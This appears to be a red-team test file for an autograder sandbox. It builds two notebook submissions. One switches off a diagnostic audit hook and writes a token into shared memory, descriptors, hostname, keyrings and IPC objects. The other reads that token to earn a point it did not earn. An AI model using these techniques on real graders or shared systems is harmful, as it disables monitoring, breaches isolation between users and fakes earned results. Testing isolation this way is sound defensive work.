"""a11 slot_shared_objects_relay.

Route (--jobs 1: aaa then bbb graded by the same reused grading process): objects that outlive
a child rather than files or PIDs (round 1/2 tried those). With the diagnostic audit hook switched
off and ctypes loaded, aaa's count_gpt2_params writes a token into: every SHARED writable mapping
of its own process (/proc/self/maps "rw-s": a mapping inherited from the zygote would carry it
to the next child), every descriptor 0..7 (pipes/sockets the zygote may not drain), the UTS
hostname and NIS domain name (sethostname/setdomainname: the UTS namespace is the zygote's), a
POSIX message queue (mq_open), a SysV message queue and semaphore set, the user keyring
(add_key: keyrings belong to the uid, and a slot keeps its uid), and the nice value of the uid's
processes (setpriority PRIO_USER). bbb looks for the token in all those places.
bbb's count_gpt2_params answers correctly only if it found the token (score channel).
Goal (5): state left for the next learner graded by the same process.
Breached: bbb scores a point.
"""
from __future__ import annotations

import pathlib

import _common as c

COMMON = c.DISARM + '''
TOKEN = b"QZ" + b"RELAY" + b"7731"

def _libc():
    try:
        _disarm()
    except Exception:
        pass
    import ctypes
    return ctypes, ctypes.CDLL(None, use_errno=True)

def _shared_maps():
    out = []
    try:
        for line in open("/proc/self/maps"):
            parts = line.split()
            if len(parts) >= 2 and parts[1].startswith("rw") and parts[1][3] == "s":
                a, b = (int(x, 16) for x in parts[0].split("-"))
                out.append((a, b, line.strip()))
    except Exception:
        pass
    return out
'''

WRITE = COMMON + '''
def count_gpt2_params(V, T, d, L, tied=True, bias=True):
    import os
    ctypes, libc = _libc()
    for a, b, _ in _shared_maps():
        try:
            ctypes.memmove(b - 64, TOKEN, len(TOKEN))
        except Exception:
            pass
    for fd in range(0, 8):
        try:
            os.set_blocking(fd, False)
            os.write(fd, TOKEN)
        except Exception:
            pass
    for f in ("sethostname", "setdomainname"):
        try:
            getattr(libc, f)(TOKEN, len(TOKEN))
        except Exception:
            pass
    try:
        libc.mq_open(b"/" + TOKEN, 0o102, 0o666, None)
    except Exception:
        pass
    try:
        libc.msgget(0x7731, 0o1666)
        libc.semget(0x7731, 1, 0o1666)
    except Exception:
        pass
    try:
        libc.syscall(248, b"user", TOKEN, b"x", 1, -4)  # add_key to @u
    except Exception:
        pass
    try:
        os.setpriority(os.PRIO_USER, os.getuid(), 13)
    except Exception:
        pass
    return 0
'''

READ = COMMON + c.GOOD["count_gpt2_params"].replace("def count_gpt2_params", "def _right") + '''
_FOUND = []

def _look():
    import os
    ctypes, libc = _libc()
    for a, b, line in _shared_maps():
        try:
            if ctypes.string_at(b - 64, len(TOKEN)) == TOKEN:
                _FOUND.append("map " + line)
        except Exception:
            pass
    for fd in range(0, 8):
        try:
            os.set_blocking(fd, False)
            if TOKEN in os.read(fd, 65536):
                _FOUND.append(f"fd {fd}")
        except Exception:
            pass
        try:
            if TOKEN in os.pread(fd, 65536, 0):
                _FOUND.append(f"fd {fd} pread")
        except Exception:
            pass
    try:
        if TOKEN.decode() in os.uname().nodename:
            _FOUND.append("hostname")
        buf = ctypes.create_string_buffer(256)
        libc.getdomainname(buf, 256)
        if TOKEN in buf.value:
            _FOUND.append("domainname")
    except Exception:
        pass
    try:
        if libc.mq_open(b"/" + TOKEN, 0, 0, None) >= 0:
            _FOUND.append("mqueue")
    except Exception:
        pass
    try:
        if libc.msgget(0x7731, 0o666) >= 0 or libc.semget(0x7731, 1, 0o666) >= 0:
            _FOUND.append("sysv")
    except Exception:
        pass
    try:
        if libc.syscall(250, 10, b"user", TOKEN, -4) > 0:  # keyctl SEARCH in @u
            _FOUND.append("keyring")
    except Exception:
        pass
    try:
        if os.getpriority(os.PRIO_PROCESS, 0) == 13:
            _FOUND.append("nice")
    except Exception:
        pass

def count_gpt2_params(V, T, d, L, tied=True, bias=True):
    if not hasattr(_look, "done"):
        _look.done = True
        _look()
    return _right(V, T, d, L, tied, bias) if _FOUND else 0
'''


def build(tmp: pathlib.Path) -> list[str]:
    s = tmp / "subs"
    c.write_nb(s / "aaa" / "05_counting_exercises.ipynb", "05_counting", [WRITE])
    c.write_nb(s / "bbb" / "05_counting_exercises.ipynb", "05_counting", [READ])
    return [str(s), "--jobs", "1"]


def verdict(out: pathlib.Path, run: dict):
    rows = {r.get("submission"): r for r in c.gradebook_rows(out)}
    b = rows.get("bbb")
    if b is None:
        return False, f"no bbb row (rc={run['returncode']}) {run['stderr'][-300:]!r}"
    if b.get("total") not in ("0", "0.0"):
        return True, f"bbb scores {b.get('total')}: aaa's token reached bbb's process"
    return False, f"bbb 0 points (token not found); aaa {rows.get('aaa', {}).get('total')}"
